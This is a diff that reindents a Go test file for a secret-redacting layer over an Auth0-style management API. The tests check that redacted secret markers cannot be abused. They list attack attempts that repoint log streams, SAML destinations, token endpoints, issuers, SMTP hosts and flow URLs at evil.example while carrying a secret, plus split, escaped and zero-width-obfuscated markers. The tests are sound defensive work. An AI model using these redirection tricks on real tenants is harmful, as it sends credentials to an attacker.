@@ -216,7 +216,7 @@ func TestSecretsStayInTheirItems(t *testing.T) {
 	d.sent = nil
 	_, statuses, _ := f.call(t, Grant{},
 		sent{"PATCH", streamPath, fmt.Sprintf(`{"sink":{"httpEndpoint":"https://logs.example/in",`+
-		`"httpCustomHeaders":[{"header":"X-B","value":%q},{"header":"X-A","value":%q}]}}`, headers[2], headers[1])})
+			`"httpCustomHeaders":[{"header":"X-B","value":%q},{"header":"X-A","value":%q}]}}`, headers[2], headers[1])})
 	if got := strings.Join(d.arrived(), ""); statuses[0] != http.StatusOK ||
 		!strings.Contains(got, `[{"header":"X-B","value":"header-value-b"},{"header":"X-A","value":"header-value-a"}]`) {
 		t.Errorf("items without ids: %v, %s", statuses, got)
@@ -239,7 +239,7 @@ func TestMisusedMarkers(t *testing.T) {
 	d := tenantWithSecrets()
 	f := doubled(d, "t.auth0.example", dir)
 	marker := func(path, member string) string {
-		found := regexp.MustCompile(`"`+member+`":"[^"]*?(\[REDACTED:\w+\])`).FindStringSubmatch(f.shown(t, path))
+		found := regexp.MustCompile(`"` + member + `":"[^"]*?(\[REDACTED:\w+\])`).FindStringSubmatch(f.shown(t, path))
 		if found == nil {
 			t.Fatalf("%s has no marker at %s: %s", path, member, f.shown(t, path))
 		}
@@ -253,63 +253,63 @@ func TestMisusedMarkers(t *testing.T) {
 	}
 	asking := func(a attempt) attempt { a.asks = true; return a }
 	attempts := map[string]attempt{
-		"another member":              patch(clientPath, `{"name":%q}`, client),
-		"another secret member":       patch(clientPath, `{"addons":{"sap_api":{"servicePassword":%q}}}`, sas),
-		"another resource":            patch("/api/v2/clients/other", `{"client_secret":%q}`, client),
-		"another resource's":          patch(clientPath, `{"client_secret":%q}`, other),
-		"another kind of resource":    patch(formPath, `{"name":%q}`, client),
-		"deeper":                      patch(clientPath, `{"client_secret":{"client_secret":%q}}`, client),
-		"a list":                      patch(clientPath, `{"client_secret":[%q]}`, client),
-		"bare":                        patch(clientPath, `{"client_secret":"[REDACTED]"}`),
-		"doubled":                     patch(clientPath, `{"client_secret":%q}`, client+client),
-		"inside another text":         patch(clientPath, `{"client_secret":%q}`, "https://evil.example/?"+client),
-		"split":                       patch(clientPath, `{"client_secret":%q,"name":%q}`, client[:14], client[14:]),
-		"split by what is not seen":   patch(clientPath, `{"client_secret":%q}`, "[RED\u200bACTED:"+inner+"]"),
-		"one in another":              patch(clientPath, `{"client_secret":%q}`, "[REDACTED:"+client+"]"),
-		"a guess":                     patch(clientPath, `{"client_secret":"[REDACTED:00000000]"}`),
-		"upper case":                  patch(clientPath, `{"client_secret":%q}`, "[REDACTED:"+strings.ToUpper(inner)+"]"),
-		"a member's name":             patch(clientPath, `{%q:1}`, client),
-		"escaped":                     patch(clientPath, `{"name":"\u005bREDACTED:%s]"}`, inner),
-		"a name that is there twice":  patch(clientPath, `{"client_secret":"a","client_secret":%q}`, client),
-		"code":                        patch(actionPath, `{"code":%q}`, "f('"+client+"')"),
-		"code, twice":                 patch(actionPath, `{"code":%q}`,
-		"f('client_secret="+marker(actionPath, "code")+"', '"+marker(actionPath, "code")+"')"),
-		"what cannot be read":         patch("/api/v2/clients/gone", `{"client_secret":%q}`, client),
-		"creating":                    {sent: sent{"POST", "/api/v2/clients",
-		fmt.Sprintf(`{"name":"n","client_secret":%q}`, client)}},
+		"another member":             patch(clientPath, `{"name":%q}`, client),
+		"another secret member":      patch(clientPath, `{"addons":{"sap_api":{"servicePassword":%q}}}`, sas),
+		"another resource":           patch("/api/v2/clients/other", `{"client_secret":%q}`, client),
+		"another resource's":         patch(clientPath, `{"client_secret":%q}`, other),
+		"another kind of resource":   patch(formPath, `{"name":%q}`, client),
+		"deeper":                     patch(clientPath, `{"client_secret":{"client_secret":%q}}`, client),
+		"a list":                     patch(clientPath, `{"client_secret":[%q]}`, client),
+		"bare":                       patch(clientPath, `{"client_secret":"[REDACTED]"}`),
+		"doubled":                    patch(clientPath, `{"client_secret":%q}`, client+client),
+		"inside another text":        patch(clientPath, `{"client_secret":%q}`, "https://evil.example/?"+client),
+		"split":                      patch(clientPath, `{"client_secret":%q,"name":%q}`, client[:14], client[14:]),
+		"split by what is not seen":  patch(clientPath, `{"client_secret":%q}`, "[RED\u200bACTED:"+inner+"]"),
+		"one in another":             patch(clientPath, `{"client_secret":%q}`, "[REDACTED:"+client+"]"),
+		"a guess":                    patch(clientPath, `{"client_secret":"[REDACTED:00000000]"}`),
+		"upper case":                 patch(clientPath, `{"client_secret":%q}`, "[REDACTED:"+strings.ToUpper(inner)+"]"),
+		"a member's name":            patch(clientPath, `{%q:1}`, client),
+		"escaped":                    patch(clientPath, `{"name":"\u005bREDACTED:%s]"}`, inner),
+		"a name that is there twice": patch(clientPath, `{"client_secret":"a","client_secret":%q}`, client),
+		"code":                       patch(actionPath, `{"code":%q}`, "f('"+client+"')"),
+		"code, twice": patch(actionPath, `{"code":%q}`,
+			"f('client_secret="+marker(actionPath, "code")+"', '"+marker(actionPath, "code")+"')"),
+		"what cannot be read": patch("/api/v2/clients/gone", `{"client_secret":%q}`, client),
+		"creating": {sent: sent{"POST", "/api/v2/clients",
+			fmt.Sprintf(`{"name":"n","client_secret":%q}`, client)}},
 		"acting":                      {sent: sent{"POST", actionPath + "/deploy", fmt.Sprintf(`{"x":%q}`, client)}},
 		"replacing what is not there": {sent: sent{"PUT", "/api/v2/rules-configs/KEY", fmt.Sprintf(`{"value":%q}`, client)}},
 		"a query":                     {sent: sent{"PATCH", clientPath + "?x=%5BREDACTED:" + inner + "%5D", `{"name":"n"}`}},
 		"a query of a read":           {sent: sent{"GET", clientPath + "?x=%255BREDACTED:" + inner, ""}},
 		"a path":                      {sent: sent{"GET", "/api/v2/clients/%5BREDACTED:" + inner + "%5D", ""}},
-		"a form":                      {sent: sent{"PATCH", clientPath, "client_secret=" + client},
-		header: "application/x-www-form-urlencoded"},
-		"an encoded form":             {sent: sent{"PATCH", clientPath, "client_secret=%5BREDACTED:" + inner + "%5D"},
-		header: "application/x-www-form-urlencoded"},
+		"a form": {sent: sent{"PATCH", clientPath, "client_secret=" + client},
+			header: "application/x-www-form-urlencoded"},
+		"an encoded form": {sent: sent{"PATCH", clientPath, "client_secret=%5BREDACTED:" + inner + "%5D"},
+			header: "application/x-www-form-urlencoded"},
 		"JSON that says it is a form": {sent: sent{"PATCH", clientPath, fmt.Sprintf(`{"client_secret":%q}`, client)},
-		header: "application/x-www-form-urlencoded"},
-		"a header":                    {sent: sent{"PATCH", clientPath, `{"name":"n"}`},
-		header: "application/json;" + client},
+			header: "application/x-www-form-urlencoded"},
+		"a header": {sent: sent{"PATCH", clientPath, `{"name":"n"}`},
+			header: "application/json;" + client},
 
 		"an add-on's token URL": asking(patch(clientPath,
-		`{"addons":{"sap_api":{"tokenEndpointUrl":"https://evil.example","servicePassword":%q}}}`, sap)),
+			`{"addons":{"sap_api":{"tokenEndpointUrl":"https://evil.example","servicePassword":%q}}}`, sap)),
 		"an add-on's token URL, the secret left in place": asking(patch(clientPath,
-		`{"addons":{"sap_api":{"tokenEndpointUrl":"https://evil.example"}}}`)),
-		"a SAML add-on":  asking(patch(clientPath,
-		`{"addons":{"samlp":{"destination":"https://evil.example"}},"client_secret":%q}`, client)),
-		"a log stream":   asking(patch(streamPath, `{"sink":{"httpEndpoint":"https://evil.example","httpAuthorization":%q}}`,
-		marker(streamPath, "httpAuthorization"))),
-		"another header":       asking(patch(streamPath, `{"sink":{"httpCustomHeaders":[{"header":"X-Evil","value":%q}]}}`,
-		marker(streamPath, "value"))),
-		"an email host":  asking(patch(mailPath, `{"credentials":{"smtp_host":"evil.example"}}`)),
-		"an email port":  asking(patch(mailPath, `{"credentials":{"smtp_port":26}}`)),
-		"a token URL":    asking(patch(connPath, `{"options":{"token_endpoint":"https://evil.example","client_secret":%q}}`,
-		marker(connPath, "client_secret"))),
-		"an issuer":      asking(patch(connPath, `{"options":{"issuer":"https://evil.example"}}`)),
+			`{"addons":{"sap_api":{"tokenEndpointUrl":"https://evil.example"}}}`)),
+		"a SAML add-on": asking(patch(clientPath,
+			`{"addons":{"samlp":{"destination":"https://evil.example"}},"client_secret":%q}`, client)),
+		"a log stream": asking(patch(streamPath, `{"sink":{"httpEndpoint":"https://evil.example","httpAuthorization":%q}}`,
+			marker(streamPath, "httpAuthorization"))),
+		"another header": asking(patch(streamPath, `{"sink":{"httpCustomHeaders":[{"header":"X-Evil","value":%q}]}}`,
+			marker(streamPath, "value"))),
+		"an email host": asking(patch(mailPath, `{"credentials":{"smtp_host":"evil.example"}}`)),
+		"an email port": asking(patch(mailPath, `{"credentials":{"smtp_port":26}}`)),
+		"a token URL": asking(patch(connPath, `{"options":{"token_endpoint":"https://evil.example","client_secret":%q}}`,
+			marker(connPath, "client_secret"))),
+		"an issuer": asking(patch(connPath, `{"options":{"issuer":"https://evil.example"}}`)),
 		"what the plugin has read": asking(patch(connPath,
-		`{"options":{"issuer":"https://evil.example","client_secret":"connection-secret"}}`)),
+			`{"options":{"issuer":"https://evil.example","client_secret":"connection-secret"}}`)),
 		"a URL of a flow": asking(patch(flowPath,
-		`{"actions":[{"id":"one","params":{"url":"https://evil.example","basic":{"username":"u","password":%q}}}]}`,
+			`{"actions":[{"id":"one","params":{"url":"https://evil.example","basic":{"username":"u","password":%q}}}]}`,
 			marker(flowPath, "password"))),
 	}
 	for name, a := range attempts {
@@ -371,16 +371,16 @@ func TestHarmlessDestinations(t *testing.T) {
 	tests := map[string]struct {
 		path, body, arguments string
 	}{
-		"the same URL":       {streamPath,
-		fmt.Sprintf(`{"sink":{"httpEndpoint":"https://logs.example/in","httpAuthorization":%q}}`, stream), ""},
-		"a new secret":       {connPath, `{"options":{"issuer":"https://new.example","client_secret":"given-anew-1"}}`, ""},
-		"the secret, known":  {connPath, `{"options":{"issuer":"https://new.example","client_secret":"connection-secret"}}`,
-		`{"s":"connection-secret"}`},
+		"the same URL": {streamPath,
+			fmt.Sprintf(`{"sink":{"httpEndpoint":"https://logs.example/in","httpAuthorization":%q}}`, stream), ""},
+		"a new secret": {connPath, `{"options":{"issuer":"https://new.example","client_secret":"given-anew-1"}}`, ""},
+		"the secret, known": {connPath, `{"options":{"issuer":"https://new.example","client_secret":"connection-secret"}}`,
+			`{"s":"connection-secret"}`},
 		"the secret removed": {connPath, `{"options":{"issuer":"https://new.example","client_secret":null}}`, ""},
 		"mail with password": {mailPath,
-		`{"credentials":{"smtp_host":"new.example","smtp_pass":"p","api_key":"a","secretAccessKey":"s","connectionString":"c","clientSecret":"c"}}`, ""},
-		"code":               {actionPath, `{"code":"fetch('https://new.example')"}`, ""},
-		"no secret":          {"/api/v2/log-streams/lst_2", `{"sink":{"httpEndpoint":"https://new.example"}}`, ""},
+			`{"credentials":{"smtp_host":"new.example","smtp_pass":"p","api_key":"a","secretAccessKey":"s","connectionString":"c","clientSecret":"c"}}`, ""},
+		"code":      {actionPath, `{"code":"fetch('https://new.example')"}`, ""},
+		"no secret": {"/api/v2/log-streams/lst_2", `{"sink":{"httpEndpoint":"https://new.example"}}`, ""},
 	}
 	d.docs["/api/v2/log-streams/lst_2"] = `{"id":"lst_2","type":"http","sink":{"httpEndpoint":"https://logs.example/in"}}`
 	for name, tt := range tests {
@@ -482,4 +482,3 @@ func TestAnswersOfWrites(t *testing.T) {
 		t.Errorf("an error: %s (%v)", text, answers)
 	}
 }
-
